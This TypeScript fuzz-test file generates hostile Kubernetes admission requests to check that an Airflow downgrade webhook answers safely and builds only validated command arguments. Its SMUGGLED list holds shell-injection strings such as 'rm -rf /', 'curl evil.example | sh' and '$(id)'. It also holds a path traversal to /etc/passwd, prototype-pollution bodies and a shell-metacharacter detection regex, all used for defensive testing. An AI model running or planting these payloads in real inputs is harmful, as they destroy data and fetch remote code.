// Hostile AdmissionReviews for property-based fuzzing: random JSON, mutated real requests
// (fixtures and builder output), shell syntax smuggled into image tags and the version
// annotation, wrong types, unicode, deep nesting. `checkReview` is the property: a clear answer
// (a valid AdmissionReview response, or AdmissionReviewError -> 400) and nothing unvalidated in
// the hold annotations or the argv the coordinator would build from them.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { AdmissionReviewError } from '../../src/core/admission.js';
import { ANNOTATIONS, DEFAULT_CONFIG } from '../../src/core/config.js';
import type { ReleaseState } from '../../src/core/decide.js';
import { downgradeArgv, migrateArgv } from '../../src/core/downgrade-command.js';
import { isValidRevision } from '../../src/core/heads.js';
import { decodePatch } from '../../src/core/response.js';
import { reviewAdmission, type ReviewResult } from '../../src/core/review.js';
import { parseAirflowVersion } from '../../src/core/versions.js';
import { chartWorkload, versionChange } from '../fixtures/admission/builders.js';

type Json = Record<string, unknown>;

const FIXTURES = path.resolve(import.meta.dirname, '../fixtures/admission');
export const FIXTURE_REVIEWS: Json[] = readdirSync(FIXTURES)
  .filter((f) => f.endsWith('.json'))
  .map((f) => JSON.parse(readFileSync(path.join(FIXTURES, f), 'utf8')) as Json);

/** Strings that try to smuggle a command line through a version. */
export const SMUGGLED = [
  '3.0.2; rm -rf /',
  '3.0.2 && curl evil.example | sh',
  '$(rm -rf /)',
  '3.0.2$(id)',
  '`id`',
  '3.0.2`reboot`',
  '3.0.2\nrm -rf /',
  '3.0.2\r\n--to-revision=base',
  '3.0.2 --to-revision base',
  '--to-revision=base',
  '-rf',
  '3.0.2|sh',
  "3.0.2' OR '1'='1",
  '3.0.2\u0000',
  '3.0.2\u202e',
  '３.０.２',
  '3.0.2+$(id)',
  '3.0.2-python3.12;id',
  '../../../etc/passwd',
  '${IFS}rm${IFS}-rf${IFS}/',
];

/** Characters that would mean something to a shell or split an argument. */
export const SHELL_META = /[;&|`$()<>\\'"\s\u0000]/;

const versions = fc.constantFrom(
  '3.1.0',
  '3.0.2',
  '3.0.3',
  '2.10.5',
  '2.9.3',
  '3.0.0',
  '2.11.0',
  '3.2.0',
  'latest',
  '3.0.2-python3.12',
  '1.10.15',
);
const smuggled = fc.constantFrom(...SMUGGLED);
const hostileString = fc.oneof(
  { weight: 3, arbitrary: smuggled },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: versions.chain((v) => smuggled.map((s) => `${v}${s}`)) },
);

const images = fc.oneof(
  versions.map((v) => `apache/airflow:${v}`),
  hostileString.map((s) => `apache/airflow:${s}`),
  hostileString.map((s) => `apache/airflow@sha256:${s}`),
  fc.constantFrom(
    'apache/airflow',
    'apache/airflow:',
    ':3.0.2',
    'registry.example:5000/mirror/apache/airflow:3.0.2',
    'apache/airflow:3.0.2@sha256:' + 'a'.repeat(64),
    'APACHE/AIRFLOW:3.0.2',
    'apache/airflow:slim-3.0.2',
    'apache/airflow:3.0.2-python3.12',
    'localhost/airflow:3.0.2;id',
    '',
    'a'.repeat(5000),
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

const components = fc.constantFrom(
  'scheduler',
  'api-server',
  'webserver',
  'worker',
  'triggerer',
  'dag-processor',
  'run-airflow-migrations',
  'database-cleanup',
  'statsd',
);
const kinds = fc.constantFrom('Deployment', 'StatefulSet', 'Job', 'CronJob') as fc.Arbitrary<
  'Deployment' | 'StatefulSet' | 'Job' | 'CronJob'
>;

/** A real-shaped version change whose images and version annotation may be hostile. */
const realChange = fc
  .record({
    kind: kinds,
    component: components,
    from: versions,
    to: versions,
    image: fc.option(images, { nil: undefined }),
    annotation: fc.option(hostileString, { nil: undefined }),
    oldAnnotation: fc.option(hostileString, { nil: undefined }),
  })
  .map((o) => {
    const review = versionChange({ kind: o.kind, component: o.component }, o.from, o.to) as {
      request: { object: Json; oldObject: Json };
    };
    const object = review.request.object as { metadata: { annotations?: Record<string, string> } };
    if (o.image !== undefined) setAllImages(object, o.image);
    if (o.annotation !== undefined) (object.metadata.annotations ??= {})[ANNOTATIONS.airflowVersion] = o.annotation;
    if (o.oldAnnotation !== undefined)
      ((review.request.oldObject as typeof object).metadata.annotations ??= {})[ANNOTATIONS.airflowVersion] =
        o.oldAnnotation;
    return review as unknown as Json;
  });

function setAllImages(node: unknown, image: string): void {
  if (Array.isArray(node)) node.forEach((n) => setAllImages(n, image));
  else if (node && typeof node === 'object') {
    for (const [k, v] of Object.entries(node)) {
      if (k === 'image' && typeof v === 'string') (node as Json)[k] = image;
      else setAllImages(v, image);
    }
  }
}

/** Every path (as keys) to a value inside a JSON document, bounded. */
function paths(
  node: unknown,
  prefix: Array<string | number> = [],
  out: Array<Array<string | number>> = [],
): Array<Array<string | number>> {
  if (out.length > 400) return out;
  out.push(prefix);
  if (Array.isArray(node)) node.forEach((n, i) => paths(n, [...prefix, i], out));
  else if (node && typeof node === 'object') for (const [k, v] of Object.entries(node)) paths(v, [...prefix, k], out);
  return out;
}

const wrongValues = fc.oneof(
  fc.constantFrom(null, true, 0, -1, 1e308, '', [], {}, 'null', '0', NaN),
  fc.jsonValue({ maxDepth: 3 }),
  hostileString,
);

type Mutation = { kind: 'set'; at: number; value: unknown } | { kind: 'delete'; at: number };
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('set' as const), at: fc.nat(), value: wrongValues }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }),
);

function mutate(doc: Json, mutations: Mutation[]): Json {
  const copy = structuredClone(doc);
  for (const m of mutations) {
    const all = paths(copy).filter((p) => p.length > 0);
    if (all.length === 0) break;
    const where = all[m.at % all.length]!;
    const parent = where.slice(0, -1).reduce<unknown>((n, k) => (n as Json)[k as string], copy) as Json | unknown[];
    const key = where[where.length - 1]!;
    if (m.kind === 'delete') {
      if (Array.isArray(parent)) parent.splice(key as number, 1);
      else delete (parent as Json)[key as string];
    } else (parent as Json)[key as string] = m.value;
  }
  return copy;
}

const mutatedReal = fc
  .tuple(fc.oneof(fc.constantFrom(...FIXTURE_REVIEWS), realChange), fc.array(mutation, { minLength: 1, maxLength: 4 }))
  .map(([doc, ms]) => mutate(doc, ms));

const deepNesting = fc
  .record({ depth: fc.integer({ min: 100, max: 20_000 }), where: fc.constantFrom('object', 'annotations', 'top') })
  .map(({ depth, where }) => {
    let nested: unknown = 'x';
    for (let i = 0; i < depth; i++) nested = i % 2 ? [nested] : { a: nested };
    const review = versionChange({ kind: 'Deployment', component: 'scheduler' }, '3.1.0', '3.0.2') as {
      request: { object: { metadata: Json; spec: Json } };
    } & Json;
    if (where === 'top') return { ...review, extra: nested };
    if (where === 'annotations') review.request.object.metadata.annotations = nested;
    else review.request.object.spec.extra = nested;
    return review as Json;
  });

const missingUid = realChange.map((r) => {
  const copy = structuredClone(r) as { request: Json };
  delete copy.request.uid;
  return copy as Json;
});

/** Every kind of hostile input, weighted towards the near-valid ones that reach decide(). */
export const hostileReview: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: realChange },
  { weight: 4, arbitrary: mutatedReal },
  { weight: 1, arbitrary: missingUid },
  { weight: 1, arbitrary: fc.anything({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('AdmissionReview'),
      apiVersion: fc.constant('admission.k8s.io/v1'),
      request: fc.anything({ maxDepth: 3 }),
    }),
  },
  { weight: 1, arbitrary: deepNesting },
);

export const RUNNING_STATE: ReleaseState = { runningVersion: '3.1.0' };

export type Answer = 'answered' | 'rejected';

/** The property. Throws (fails the run) on anything but a clear, safe answer. */
export function checkReview(input: unknown, state: ReleaseState = RUNNING_STATE): Answer {
  let result: ReviewResult;
  try {
    result = reviewAdmission(input, () => state, DEFAULT_CONFIG);
  } catch (error) {
    if (error instanceof AdmissionReviewError && error.message.length > 0) return 'rejected';
    throw error;
  }
  checkResponse(result);
  return 'answered';
}

export function checkResponse(result: ReviewResult): void {
  const { response } = result;
  assert(
    response.apiVersion === 'admission.k8s.io/v1' && response.kind === 'AdmissionReview',
    'not an AdmissionReview v1',
  );
  assert(typeof response.response.uid === 'string' && response.response.uid === result.request.uid, 'uid not echoed');
  assert(typeof response.response.allowed === 'boolean', 'allowed is not a boolean');
  if (!response.response.allowed)
    assert(
      typeof response.response.status?.message === 'string' && response.response.status.message.length > 0,
      'denial without a message',
    );
  for (const w of response.response.warnings ?? []) assert(typeof w === 'string' && w.length <= 256 * 4, 'odd warning');
  const patch = decodePatch(response.response);
  for (const op of patch) {
    const key = decodeURIComponent(op.path.split('/').pop() ?? '')
      .replaceAll('~1', '/')
      .replaceAll('~0', '~');
    const value = (op as { value?: unknown }).value;
    if (key === ANNOTATIONS.fromRevision || key === ANNOTATIONS.toRevision)
      assert(isValidRevision(value), `patch writes revision ${JSON.stringify(value)}`);
    if (key === ANNOTATIONS.fromVersion || key === ANNOTATIONS.toVersion) assertVersion(value);
    if (op.path.endsWith('/annotations') && value && typeof value === 'object') {
      const a = value as Record<string, unknown>;
      for (const k of [ANNOTATIONS.fromRevision, ANNOTATIONS.toRevision])
        if (k in a) assert(isValidRevision(a[k]), `patch writes revision ${JSON.stringify(a[k])}`);
      for (const k of [ANNOTATIONS.fromVersion, ANNOTATIONS.toVersion]) if (k in a) assertVersion(a[k]);
    }
  }
  const op = result.decision.operation;
  if (op) {
    assertVersion(op.fromVersion);
    assertVersion(op.toVersion);
    // What the coordinator would exec for this operation: only fixed words and a validated revision.
    const down = downgradeArgv(op.toRevision);
    assert(
      JSON.stringify(down) === JSON.stringify(['airflow', 'db', 'downgrade', '--to-revision', op.toRevision, '--yes']),
      'downgrade argv shape',
    );
    if (op.fromRevision)
      assert(
        JSON.stringify(migrateArgv(op.fromRevision)) ===
          JSON.stringify(['airflow', 'db', 'migrate', '--to-revision', op.fromRevision]),
        'migrate argv shape',
      );
    for (const rev of [op.toRevision, op.fromRevision ?? '0000'])
      assert(/^[0-9a-z_]{1,64}$/i.test(rev), `revision ${JSON.stringify(rev)} in argv`);
  }
}

function assertVersion(value: unknown): void {
  assert(
    typeof value === 'string' && parseAirflowVersion(value) !== undefined && !SHELL_META.test(value),
    `version ${JSON.stringify(value)} in a hold or operation`,
  );
}

function assert(condition: boolean, message: string): asserts condition {
  if (!condition) throw new Error(`unsafe or unclear answer: ${message}`);
}

/** Raw JSON texts the parser sees differently from a naive reader: duplicate keys, BOMs, odd escapes. */
export const rawBodies = fc.oneof(
  fc.tuple(realChange, hostileString).map(([review, s]) => {
    const text = JSON.stringify(review);
    // A second "uid" and a second version annotation: JSON.parse keeps the last one.
    return text
      .replace('"uid":', `"uid":${JSON.stringify(s)},"uid":`)
      .replace('"annotations":{', `"annotations":{${JSON.stringify(ANNOTATIONS.airflowVersion)}:${JSON.stringify(s)},`);
  }),
  realChange.map((r) => `\ufeff${JSON.stringify(r)}`),
  realChange.map((r) => JSON.stringify(r).replace('"request"', '"req\\u0075est"')),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.constantFrom(
    '',
    '{',
    '[]',
    'null',
    '"AdmissionReview"',
    '{"request":{}}',
    '{"__proto__":{"allowed":true}}',
    '{"constructor":{"prototype":{"x":1}}}',
  ),
);

export { chartWorkload };
